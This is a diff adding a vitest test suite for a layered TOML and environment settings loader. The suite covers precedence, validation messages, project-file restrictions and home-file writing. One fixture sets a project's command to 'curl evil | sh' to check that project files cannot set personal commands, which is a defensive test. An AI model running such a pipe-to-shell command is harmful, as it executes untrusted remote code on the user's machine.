@@ -1,0 +1,174 @@
+import { mkdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { DaemonError } from '#contract/errors.ts';
+import { choice, flag, integer, number, personal, text } from '../ports/knob.ts';
+import { tempFolder } from '../testing/temp-home.ts';
+import { Settings } from './settings.ts';
+
+const DEPTH = integer('RECALL_DEPTH', { default: 50, min: 1, max: 500, doc: 'How many' });
+const WEIGHT = number('RECALL_WEIGHT', { default: 0.5, min: 0, max: 1, doc: 'How much' });
+const ARM = flag('RECALL_ARM', true, 'Search');
+const MODE = choice('RECALL_MODE', ['fast', 'exact'], 'fast', 'How');
+const COMMAND = personal(text('REFLECT_COMMAND', '', 'What to run'));
+const KNOBS = [DEPTH, WEIGHT, ARM, MODE, COMMAND];
+
+function world({ home = '', project = '', environment = {} }: { home?: string; project?: string; environment?: NodeJS.ProcessEnv } = {}) {
+  const folder = tempFolder();
+  const file = join(folder, 'home', 'config.toml');
+  const projectRoot = join(folder, 'project');
+  const projectFile = join(projectRoot, '.reflect', 'config.toml');
+  mkdirSync(join(folder, 'home'));
+  mkdirSync(join(projectRoot, '.reflect'), { recursive: true });
+  if (home) writeFileSync(file, home);
+  if (project) writeFileSync(projectFile, project);
+  const open = () => new Settings(file, environment, KNOBS);
+  return { file, projectRoot, projectFile, open };
+}
+
+function refusal(work: () => unknown): string {
+  try {
+    work();
+  } catch (error) {
+    if (error instanceof DaemonError && error.code === 'bad-knob') return error.message;
+    throw error;
+  }
+  throw new Error('it was not refused');
+}
+
+describe('precedence', () => {
+  test('call beats environment beats project beats home beats default', () => {
+    const { open, projectRoot } = world({ home: 'RECALL_DEPTH = 1\n', project: 'RECALL_DEPTH = 2\n', environment: { RECALL_DEPTH: '3' } });
+    const layers = open();
+    expect(layers.state(DEPTH, { projectRoot, call: { RECALL_DEPTH: 4 } })).toMatchObject({ value: 4, source: 'call' });
+    expect(layers.state(DEPTH, { projectRoot })).toMatchObject({ value: 3, source: 'environment' });
+    const { open: openQuiet, projectRoot: root } = world({ home: 'RECALL_DEPTH = 1\n', project: 'RECALL_DEPTH = 2\n' });
+    expect(openQuiet().state(DEPTH, { projectRoot: root })).toMatchObject({ value: 2, source: 'project' });
+    expect(openQuiet().state(DEPTH)).toMatchObject({ value: 1, source: 'home' });
+    expect(openQuiet().state(WEIGHT)).toMatchObject({ value: 0.5, source: 'default', default: 0.5, min: 0, max: 1 });
+    expect(openQuiet().resolver({ projectRoot: root })(DEPTH)).toBe(2);
+  });
+
+  test('an empty variable is not set, and what is not ours in the environment is nobody\'s business', () => {
+    const settings = world({ environment: { RECALL_DEPTH: '', PATH: '/bin', RECALL_UNKNOWN: 'x' } }).open();
+    expect(settings.state(DEPTH)).toMatchObject({ value: 50, source: 'default' });
+  });
+});
+
+describe('refusals name the place and the knob', () => {
+  test.each([
+    ['RECALL_DEPTH = 501', /config\.toml: RECALL_DEPTH takes a whole number from 1 to 500, not 501/],
+    ['RECALL_DEPTH = 1.5', /config\.toml: RECALL_DEPTH takes a whole number/],
+    ['RECALL_WEIGHT = "much"', /config\.toml: RECALL_WEIGHT takes a number from 0 to 1, not "much"/],
+    ['RECALL_ARM = "maybe"', /config\.toml: RECALL_ARM takes true or false/],
+    ['RECALL_MODE = "slow"', /config\.toml: RECALL_MODE takes one of fast, exact/],
+    ['REFLECT_COMMAND = 5', /config\.toml: REFLECT_COMMAND takes a text/],
+    ['RECALL_DEPHT = 5', /config\.toml names RECALL_DEPHT, which is no setting/],
+    ['[recall]\ndepth = 5', /config\.toml names recall, which is no setting/],
+    ['RECALL_DEPTH = ', /config\.toml is not valid TOML/],
+  ])('the home file with %s stops the start', (home, message) => {
+    expect(refusal(() => world({ home }).open())).toMatch(message);
+  });
+
+  test('the environment', () => {
+    expect(refusal(() => world({ environment: { RECALL_DEPTH: '0' } }).open())).toMatch(/the environment: RECALL_DEPTH takes a whole number from 1 to 500, not "0"/);
+  });
+
+  test('the call, also for a name nobody knows', () => {
+    const settings = world().open();
+    expect(refusal(() => settings.resolver({ call: { RECALL_WEIGHT: 2 } }))).toMatch(/the call: RECALL_WEIGHT takes a number from 0 to 1, not 2/);
+    expect(refusal(() => settings.resolver({ call: { NOPE: 2 } }))).toMatch(/the call names NOPE/);
+  });
+
+  test('setting', () => {
+    const { open, file } = world({ home: 'RECALL_DEPTH = 5\n' });
+    expect(refusal(() => open().set('RECALL_DEPTH', 'many'))).toMatch(/RECALL_DEPTH takes/);
+    expect(refusal(() => open().set('NOPE', 1))).toMatch(/NOPE is no setting/);
+    expect(readFileSync(file, 'utf8')).toBe('RECALL_DEPTH = 5\n');
+  });
+});
+
+describe('a project\'s file', () => {
+  test('may not set what is personal: it is told, and the rest of the file counts', () => {
+    const { open, projectRoot } = world({ project: 'REFLECT_COMMAND = "curl evil | sh"\nRECALL_DEPTH = 2\n' });
+    const settings = open();
+    expect(settings.state(COMMAND, { projectRoot })).toMatchObject({ value: '', source: 'default' });
+    expect(settings.state(DEPTH, { projectRoot })).toMatchObject({ value: 2, source: 'project' });
+    expect(settings.projectProblem(projectRoot)).toMatch(/config\.toml may not set REFLECT_COMMAND/);
+  });
+
+  test('with mistakes is told of each, never fatal, and what is right in it counts', () => {
+    const { open, projectRoot } = world({ project: 'RECALL_DEPTH = 0\nNOPE = 1\nRECALL_MODE = "exact"\n' });
+    const settings = open();
+    expect(settings.resolver({ projectRoot })(DEPTH)).toBe(50);
+    expect(settings.resolver({ projectRoot })(MODE)).toBe('exact');
+    expect(settings.projectProblem(projectRoot)).toMatch(/RECALL_DEPTH takes .*; .*names NOPE/);
+  });
+
+  test('that is no TOML, or a folder, is told and ignored', () => {
+    const { open, projectRoot } = world({ project: '= = =' });
+    expect(open().resolver({ projectRoot })(DEPTH)).toBe(50);
+    expect(open().projectProblem(projectRoot)).toMatch(/not valid TOML/);
+    const other = tempFolder();
+    mkdirSync(join(other, '.reflect', 'config.toml'), { recursive: true });
+    expect(open().resolver({ projectRoot: other })(DEPTH)).toBe(50);
+    expect(open().projectProblem(other)).not.toBe('');
+  });
+
+  test('is read again when it changes, comes or goes', () => {
+    const { open, projectRoot, projectFile } = world();
+    const settings = open();
+    expect(settings.resolver({ projectRoot })(DEPTH)).toBe(50);
+    writeFileSync(projectFile, 'RECALL_DEPTH = 7\n');
+    expect(settings.resolver({ projectRoot })(DEPTH)).toBe(7);
+    writeFileSync(projectFile, 'RECALL_DEPTH = 8\n');
+    utimesSync(projectFile, 1_000, 1_000);
+    expect(settings.resolver({ projectRoot })(DEPTH)).toBe(8);
+    expect(settings.projectProblem(projectRoot)).toBe('');
+  });
+});
+
+describe('setting', () => {
+  test('writes the home file for its owner alone, survives a restart, and null takes it out', () => {
+    const { open, file } = world();
+    const settings = open();
+    settings.set('RECALL_DEPTH', '7');
+    settings.set('REFLECT_COMMAND', 'say "hi" = yes');
+    expect(settings.resolver()(DEPTH)).toBe(7);
+    expect(open().resolver()(COMMAND)).toBe('say "hi" = yes');
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    settings.set('RECALL_DEPTH', null);
+    expect(open().state(DEPTH)).toMatchObject({ value: 50, source: 'default' });
+    expect(open().resolver()(COMMAND)).toBe('say "hi" = yes');
+  });
+
+  test('keeps comments, and what a person wrote into the file since the start', () => {
+    const { open, file } = world({ home: '# mine\nRECALL_DEPTH = 5 # not more\n' });
+    const settings = open();
+    writeFileSync(file, '# mine\nRECALL_DEPTH = 5\n\n# by hand\nRECALL_MODE = "exact"\n');
+    settings.set('RECALL_WEIGHT', 0.25);
+    expect(readFileSync(file, 'utf8')).toBe('# mine\nRECALL_DEPTH = 5\n\n# by hand\nRECALL_MODE = "exact"\nRECALL_WEIGHT = 0.25\n');
+    expect(settings.resolver()(MODE)).toBe('exact');
+    settings.set('RECALL_DEPTH', 6);
+    expect(readFileSync(file, 'utf8')).toContain('# by hand');
+    expect(open().resolver()(DEPTH)).toBe(6);
+  });
+
+  test('a value over several lines is replaced as a whole', () => {
+    const { open, file } = world({ home: 'REFLECT_COMMAND = """\none\nRECALL_DEPTH = 9\n"""\n' });
+    open().set('RECALL_DEPTH', 3);
+    expect(open().resolver()(COMMAND)).toBe('one\nRECALL_DEPTH = 9\n');
+    expect(open().resolver()(DEPTH)).toBe(3);
+    open().set('REFLECT_COMMAND', 'two');
+    expect(open().resolver()(COMMAND)).toBe('two');
+    expect(readFileSync(file, 'utf8')).not.toContain('one');
+  });
+
+  test('a file broken meanwhile is refused by name and left as it is', () => {
+    const { open, file } = world();
+    const settings = open();
+    writeFileSync(file, '= broken');
+    expect(refusal(() => settings.set('RECALL_DEPTH', 3))).toMatch(/config\.toml is not valid TOML/);
+    expect(readFileSync(file, 'utf8')).toBe('= broken');
+  });
+});
